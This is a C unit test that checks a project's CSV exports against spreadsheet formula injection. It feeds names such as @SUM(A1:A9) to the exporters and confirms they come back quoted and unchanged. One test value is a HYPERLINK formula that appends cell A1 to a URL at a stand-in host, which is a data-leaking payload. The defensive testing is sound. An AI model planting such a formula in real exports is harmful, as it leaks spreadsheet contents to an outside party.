/* SPDX-License-Identifier: MIT */
/*
 * Formula injection (OWASP's CSV injection): every CSV the project writes
 * (the quarterly summary of workers/summary/render.c, the units export of
 * common/unitcsv.c that exemplarctl prints) is written with names that a
 * spreadsheet would run, then read back with libcsv's strict parser, the
 * way a spreadsheet splits cells: no cell may begin with = + - @ TAB or CR,
 * and the units export must read back to the same names.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <csv.h>

#include "summary_render.h"
#include "unitcsv.h"

#define HYPERLINK                                                                                  \
    "=HYPERLINK(\"http://x.example/?\"&A1,\"B\xe1\xba\xa5m v\xc3\xa0o \xc4\x91\xc3\xa2y\")"

typedef struct {
    size_t cells, formulas, hits;
    const char *want; /* a cell expected verbatim */
} scan_t;

static void on_cell(void *s, size_t len, void *data)
{
    scan_t *c = data;
    const char *t = s ? s : "";
    c->cells++;
    if (len && strchr("=+-@\t\r", t[0]))
        c->formulas++;
    if (strlen(c->want) == len && memcmp(t, c->want, len) == 0)
        c->hits++;
}

static scan_t scan(const char *text, size_t len, const char *want)
{
    scan_t c = {.want = want};
    struct csv_parser p;
    assert_int_equal(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI | CSV_APPEND_NULL), 0);
    assert_int_equal(csv_parse(&p, text, len, on_cell, NULL, &c), len);
    assert_int_equal(csv_fini(&p, on_cell, NULL, &c), 0);
    csv_free(&p);
    return c;
}

static void summary_csv_holds_no_formula_cell(void **state)
{
    (void)state;
    Exemplar__Summary s = EXEMPLAR__SUMMARY__INIT;
    Exemplar__SummaryRow row = EXEMPLAR__SUMMARY_ROW__INIT;
    Exemplar__SummaryRecognized rec = EXEMPLAR__SUMMARY_RECOGNIZED__INIT;
    s.quarter = "2026Q4";
    s.as_of = "2026-12-31";
    row.unit = "01";
    row.unit_name = "+Ph\xc3\xb2ng 1"; /* a unit named by an administrator */
    row.kind = EXEMPLAR__KIND__KIND_INDIVIDUAL;
    row.state = EXEMPLAR__STATE__STATE_RECOGNIZED;
    row.count = 1;
    Exemplar__SummaryRow *rows[] = {&row};
    s.n_rows = 1;
    s.rows = rows;
    rec.id = 42;
    rec.name = HYPERLINK;
    rec.unit = "01";
    rec.unit_name = "@SUM(A1:A9)";
    rec.kind = EXEMPLAR__KIND__KIND_INDIVIDUAL;
    rec.day = "2026-12-01";
    rec.campaign = "-2+3";
    Exemplar__SummaryRecognized *recs[] = {&rec};
    s.recognized_count = 1;
    s.n_recognized = 1;
    s.recognized = recs;
    for (int lang = SR_VI; lang <= SR_EN; lang++) {
        char *text = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&text, &len);
        assert_non_null(f);
        assert_int_equal(summary_render_csv(&s, (sr_lang_t)lang, f), 0);
        fclose(f);
        assert_true(len > 3 && memcmp(text, "\xEF\xBB\xBF", 3) == 0);
        scan_t c = scan(text + 3, len - 3, "'" HYPERLINK);
        if (c.formulas)
            fail_msg("the summary CSV has %zu cells a spreadsheet runs:\n%s", c.formulas, text);
        assert_int_equal(c.hits, 1); /* the name is there, as text */
        assert_non_null(strstr(text, "\"'@SUM(A1:A9)\""));
        assert_non_null(strstr(text, "\"'+Ph\xc3\xb2ng 1\""));
        assert_non_null(strstr(text, "\"42\"")); /* ids and counts are untouched */
        free(text);
    }
}

static void units_export_holds_no_formula_cell_and_reads_back(void **state)
{
    (void)state;
    Exemplar__Unit a = EXEMPLAR__UNIT__INIT, b = EXEMPLAR__UNIT__INIT;
    a.code = "01";
    a.name = HYPERLINK;
    a.name_en = "-Unit one";
    a.kind = "province";
    b.code = "-2";
    b.name = "'=already quoted";
    b.name_en = "Hanoi";
    b.valid_from = "2025-07-01";
    char *mf[] = {"01"};
    b.n_merged_from = 1;
    b.merged_from = mf;
    b.kind = "province";
    Exemplar__Unit *units[] = {&a, &b};
    char *text = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&text, &len);
    assert_non_null(f);
    unitcsv_write(f, units, 2);
    fclose(f);
    scan_t c = scan(text, len, "'" HYPERLINK);
    if (c.formulas)
        fail_msg("the units CSV has %zu cells a spreadsheet runs:\n%s", c.formulas, text);
    assert_int_equal(c.hits, 1);
    Exemplar__Unit **back = NULL;
    size_t n = 0;
    char err[256];
    assert_int_equal(unitcsv_parse(text, len, "export", &back, &n, err, sizeof(err)), 0);
    assert_int_equal(n, 2);
    assert_string_equal(back[0]->name, HYPERLINK);
    assert_string_equal(back[0]->name_en, "-Unit one");
    assert_string_equal(back[1]->code, "-2");
    assert_string_equal(back[1]->name, "'=already quoted");
    assert_string_equal(back[1]->valid_from, "2025-07-01");
    unitcsv_free(back, n);
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(summary_csv_holds_no_formula_cell),
        cmocka_unit_test(units_export_holds_no_formula_cell_and_reads_back),
    };
    return cmocka_run_group_tests_name("csv_injection", tests, NULL, NULL);
}
